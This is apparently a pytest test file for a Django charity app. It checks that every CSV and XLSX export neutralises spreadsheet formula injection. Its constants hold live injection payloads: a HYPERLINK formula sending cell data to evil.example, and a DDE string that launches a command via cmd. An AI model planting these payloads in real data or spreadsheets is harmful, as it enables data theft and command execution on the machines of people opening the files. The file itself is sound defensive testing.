"""Formula injection (issue 6): text that a spreadsheet would run (=, +, -, @, tab, CR first) comes out
of every CSV and XLSX export neutralised, with a leading apostrophe (support/csv_safe.py).

Hostile text is planted where people type it (a carer's name, dietary needs, a school, a charity, a
voucher type, items given, a username, a donor, a reversal reason, a uniform item and its supplier),
then every export is read back as a spreadsheet would read it: no cell may start with a formula
character, no XLSX cell may be a formula, and each export must carry at least one planted value,
neutralised (so a test that reads an export without the hostile text cannot pass by accident).
"""

import csv
import io
import re

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import timezone

from funds.models import LedgerEntry
from funds.services.ledger import fund_donation_record, fund_entry_reverse, fund_spend_commit
from support.dates import academic_year_start_for
from support.models import Family, PartnerCharity, School
from uniform.models import UniformItem
from vouchers import statements
from vouchers.models import Redemption, Voucher, VoucherType

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")

CARER = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
DIET = "+SUM(1,1)"
SCHOOL = "-2+3 Academy"
PARTNER = "=cmd|' /C calc'!A0"
TYPE = "@SUM(A1:A9)"
ITEMS = "=2*3 tins"
COUNTER = "@counter_a"
DONOR = "@Donor Trust"  # the ledger shows "Donation from @Donor Trust": safe as it is
REVERSAL = "-1+1 entered twice"
ITEM = "=ITEM()"
SUPPLIER = "+44 Uniforms Ltd"
PHONE = "\t=1+2"


@pytest.fixture
def hostile(world, db):
    """Plant the hostile values on side A's objects (rolled back with the test's transaction)."""
    a = world.a
    Family.objects.filter(pk=a.family.pk).update(lead_carer_name=CARER, dietary_needs=DIET, phone=PHONE)
    Voucher.objects.filter(family=a.family).update(lead_carer_name=CARER)  # copied at issue
    School.objects.filter(pk=a.school.pk).update(name=SCHOOL)
    PartnerCharity.objects.filter(pk=a.partner.pk).update(name=PARTNER)
    VoucherType.objects.filter(pk=a.voucher.voucher_type_id).update(name=TYPE)
    Redemption.objects.filter(pk=a.redemption.pk).update(items_given=ITEMS)
    # Exports name people (never their username): the hostile value is the name a CSV shows.
    get_user_model().objects.filter(pk=a.redemption.redeemed_by_id).update(
        username=COUNTER, first_name=COUNTER, last_name=""
    )
    UniformItem.objects.filter(pk=a.item.pk).update(name=ITEM, supplier=SUPPLIER)
    finance = world.users["finance"]
    fund_donation_record(
        fund=world.fund,
        donor=DONOR,
        amount_pence=12_34,
        received_on=timezone.localdate(),
        gift_aid=False,
        actor=finance,
    )
    entry = LedgerEntry.objects.filter(fund=world.fund, amount_pence=12_34).get()
    fund_entry_reverse(entry=entry, actor=finance, reason=REVERSAL)
    # Money committed for school A, so the summary by school has a row naming it.
    fund_spend_commit(
        fund=world.fund,
        source=a.voucher,
        amount_pence=10_00,
        category="voucher:food_parcel",
        school=a.school,
        actor=finance,
    )
    return world


def _body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_cells(response) -> list[str]:
    text = _body(response).decode("utf-8").removeprefix("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(response) -> list[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(_body(response)))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def _assert_neutralised(cells: list[str], planted: set[str]) -> None:
    # A negative amount the export wrote itself ("-12.34") is a number to a spreadsheet, not a formula.
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)]
    assert not dangerous, f"cells a spreadsheet would run: {dangerous}"
    found = {value for value in planted if "'" + value in cells}
    assert found == planted, f"{sorted(planted - found)} did not reach this export neutralised"


def _statement_url(world) -> str:
    month = statements.current_month()
    return reverse(
        "statement_csv", kwargs={"partner_id": world.a.partner.pk, "year": month.year, "month": month.month}
    )


CSV_EXPORTS = {
    "family search csv": ("pastoral_a", lambda w: "/families/export.csv", {CARER, DIET, PHONE}),
    "voucher export": ("pastoral_a", lambda w: "/vouchers/export.csv", {CARER, SCHOOL, PARTNER, TYPE}),
    "voucher export (finance)": ("finance", lambda w: "/vouchers/export.csv", {SCHOOL, PARTNER, TYPE}),
    "redemptions csv": ("charity_1", lambda w: "/redemptions/export.csv", {TYPE, SCHOOL, ITEMS, COUNTER}),
    "statement csv": ("charity_1", _statement_url, {TYPE, SCHOOL}),
    "ledger csv": ("finance", lambda w: "/finance/ledger.csv", {REVERSAL, SCHOOL}),
    "summary csv (schools)": ("finance", lambda w: "/finance/summary.csv?table=schools", {SCHOOL}),
    "impact csv": ("trustee", lambda w: "/impact/report.csv", {SCHOOL}),
    "supplier order csv": (
        "lead_a",
        lambda w: (
            reverse("uniform_order_summary", args=[w.a.school.pk, "csv"])
            + f"?year={academic_year_start_for(timezone.localdate())}"
        ),
        {ITEM, SUPPLIER},
    ),
}

XLSX_EXPORTS = {
    "impact xlsx": ("trustee", lambda w: "/impact/report.xlsx", {SCHOOL}),
    "ledger xlsx": ("finance", lambda w: "/finance/ledger.xlsx", {REVERSAL, SCHOOL}),
    "summary xlsx (schools)": ("finance", lambda w: "/finance/summary.xlsx?table=schools", {SCHOOL}),
}


@pytest.mark.parametrize("export", CSV_EXPORTS)
def test_every_csv_export_neutralises_formulas(hostile, client_for, export):
    role, url, planted = CSV_EXPORTS[export]
    _assert_neutralised(_csv_cells(client_for(hostile.users[role]).get(url(hostile))), planted)


@pytest.mark.parametrize("export", XLSX_EXPORTS)
def test_every_xlsx_export_neutralises_formulas(hostile, client_for, export):
    role, url, planted = XLSX_EXPORTS[export]
    _assert_neutralised(_xlsx_cells(client_for(hostile.users[role]).get(url(hostile))), planted)


def test_every_export_url_is_covered():
    """A new CSV or XLSX door must be added above (the names are the URL names of the exports)."""
    from django.urls import get_resolver

    def names(resolver, prefix=""):
        for pattern in resolver.url_patterns:
            if hasattr(pattern, "url_patterns"):
                yield from names(pattern, prefix + str(pattern.pattern))
            elif pattern.name:
                yield pattern.name, prefix + str(pattern.pattern)

    exports = {name for name, route in names(get_resolver()) if "csv" in route or "xlsx" in route}
    covered = {
        "family_export",
        "voucher_export",
        "redemption_export",
        "statement_csv",
        "finance_ledger_csv",
        "finance_ledger_xlsx",
        "finance_summary_csv",
        "finance_summary_xlsx",
        "impact_report_csv",
        "impact_report_xlsx",
    }
    # uniform_order_summary takes its format as a path argument, so it is named here by hand.
    assert exports <= covered | {"uniform_order_summary"}, sorted(exports - covered)
